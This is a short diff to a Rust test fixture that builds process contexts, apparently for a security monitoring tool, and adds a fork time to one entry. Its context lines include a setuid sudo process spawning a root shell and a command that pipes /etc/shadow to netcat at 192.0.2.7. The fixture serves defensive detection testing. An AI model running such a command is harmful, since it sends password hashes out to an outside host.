@@ -174,6 +174,7 @@ fn contexts() -> Vec<Context> {
     list[1].credentials = alice();
     list[2].image = ImageRef::Shared(2);
     list[2].credentials = alice();
+    list[2].fork_time = BEGIN + SECOND;
     list[3].image = image("/usr/bin/sudo", &["sh"], 0o4000);
     list[3].credentials = user(1000, "alice", 0, "root");
     list[4].image = image("/usr/bin/sh", &["-c", "cat /etc/shadow | nc 192.0.2.7 443"], 0);
